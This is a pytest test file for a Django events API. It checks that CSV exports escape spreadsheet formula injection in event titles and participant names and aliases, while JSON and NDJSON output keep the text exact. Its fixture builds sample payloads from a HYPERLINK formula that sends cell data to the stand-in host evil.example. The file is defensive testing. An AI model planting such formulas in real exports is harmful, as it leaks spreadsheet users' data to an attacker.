"""CSV formula injection: every CSV the API writes (a list's ``?format=csv``, ``/export/?format=csv`` on each
of its paths) puts a ``'`` before a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return; JSON and NDJSON keep the text exact. Run on SQLite and on PostgreSQL (DATABASE_URL)."""

import csv
import io
import json

import pytest
from django.db import connection

from events.api import exports
from events.models import Event, Participant
from tests.factories import EventFactory, ParticipantFactory

pytestmark = pytest.mark.django_db

STARTS = ["=", "+", "-", "@", "\t", "\r"]
FORMULAS = {start: f'{start}HYPERLINK("http://evil.example/?"&A1,"x")' for start in STARTS}


@pytest.fixture(params=STARTS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def formula(request):
    """An event titled, and a participant named and aliased, with a formula; stored as given (no form)."""
    text = FORMULAS[request.param]
    event, participant = EventFactory(), ParticipantFactory()
    Event.objects.filter(pk=event.pk).update(title=text, city="Moscow")
    Participant.objects.filter(pk=participant.pk).update(name=text, aliases=[text])
    return text


def cells(body, column):
    rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
    return [row[column] for row in rows]


def exported(api_client, resource, format):
    response = api_client.get(f"/api/{resource}/export/", {"format": format})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


@pytest.mark.parametrize(("resource", "column"), [("events", "title"), ("participants", "name")])
def test_the_list_csv_neutralises_a_formula(api_client, formula, resource, column):
    response = api_client.get(f"/api/{resource}/", {"format": "csv"})
    assert cells(response.content, column) == ["'" + formula]


def test_the_list_csv_neutralises_a_formula_in_a_joined_list(api_client, formula):
    response = api_client.get("/api/participants/", {"format": "csv"})
    assert cells(response.content, "aliases") == ["'" + formula]


@pytest.mark.parametrize(
    ("resource", "column"), [("events", "title"), ("participants", "name"), ("participants", "aliases")]
)
def test_the_export_neutralises_a_formula_on_every_path(api_client, formula, monkeypatch, resource, column):
    """The database's path (SQLite's printf, PostgreSQL's COPY, or converted rows) and the generic one agree."""
    fast = exported(api_client, resource, "csv")
    monkeypatch.setattr(exports, "fast_blocks", lambda *args: None)
    generic = exported(api_client, resource, "csv")

    assert cells(fast, column) == ["'" + formula]
    assert fast == generic


def test_the_fast_paths_are_the_ones_tested(api_client, formula, monkeypatch):
    taken = []
    fast_blocks = exports.fast_blocks
    monkeypatch.setattr(exports, "fast_blocks", lambda *args: taken.append(fast_blocks(*args)) or taken[-1])
    exported(api_client, "events", "csv")
    exported(api_client, "participants", "csv")
    assert [content is not None for content in taken] == [connection.vendor in ("sqlite", "postgresql")] * 2


def test_other_cells_are_left_alone(api_client, formula):
    """Plain text, numbers and dates are written as they are."""
    body = exported(api_client, "events", "csv")
    assert cells(body, "city") == ["Moscow"]
    assert cells(body, "start_date") == ["2018-09-04"]


def test_json_and_ndjson_keep_the_text_exact(api_client, formula):
    assert api_client.get("/api/events/").json()["results"][0]["title"] == formula
    assert json.loads(exported(api_client, "events", "ndjson"))["title"] == formula
    assert json.loads(exported(api_client, "participants", "ndjson"))["aliases"] == [formula]
